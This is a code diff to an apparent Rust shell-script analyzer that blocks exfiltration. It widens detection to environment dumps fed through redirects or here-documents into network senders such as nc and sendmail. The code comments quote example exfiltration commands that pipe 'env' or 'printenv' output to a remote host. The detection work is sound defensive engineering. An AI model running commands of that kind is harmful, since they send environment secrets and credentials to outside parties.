@@ -62,6 +62,7 @@ impl Analyzer<'_> {
         }
         self.endless_into_files(script);
         self.project_sent_away(script);
+        self.secret_published(script);
         // A trace switched on for the rest of the line (`export
         // GIT_TRACE_CURL=1`, `env GIT_TRACE=1 git …`).
         let traced = script.commands.iter().any(|k| {
@@ -97,24 +98,30 @@ impl Analyzer<'_> {
                 self.block("exfiltration (the whole environment written into the repository, for a push to send)");
             }
         }
-        // `nc host 80 < <(env)`: the dump fed in by a redirect.
+        // `nc host 80 < <(env)`, `sendmail -t <<EOF … $(printenv) … EOF`:
+        // the dump fed in by a redirect or spliced into a here-document.
         for c in &script.commands {
             let argv = peeled(&c.argv);
             let sink = argv
                 .first()
                 .map(|w| lower(&base_name(&w.text)))
                 .unwrap_or_default();
-            let network = tables::FETCHERS.contains(&sink.as_str());
+            let network =
+                tables::FETCHERS.contains(&sink.as_str()) || super::captures::is_sender(&sink);
             let fed_env = c.redirects.iter().any(|r| {
-                r.op == "<"
-                    && r.target.procsub
-                    && r.target
-                        .subs
+                let input = match r.op.as_str() {
+                    "<" if r.target.procsub => Some(&r.target),
+                    "<<" | "<<-" | "<<<" => r.body.as_ref(),
+                    _ => None,
+                };
+                input.is_some_and(|w| {
+                    w.subs
                         .iter()
                         .filter_map(|&k| script.commands.get(k))
                         .any(|k| {
                             dumps_env(peeled(&k.argv)) && !super::readonly::names_only(k, script)
                         })
+                })
             });
             if network && fed_env {
                 self.block("sends the environment over the network (exfiltration)");
@@ -184,6 +191,7 @@ impl Analyzer<'_> {
                 ));
             }
             let network_sink = tables::FETCHERS.contains(&sink.as_str())
+                || super::captures::is_sender(&sink)
                 || sink_argv
                     .iter()
                     .any(|w| w.text.starts_with("http://") || w.text.starts_with("https://"))
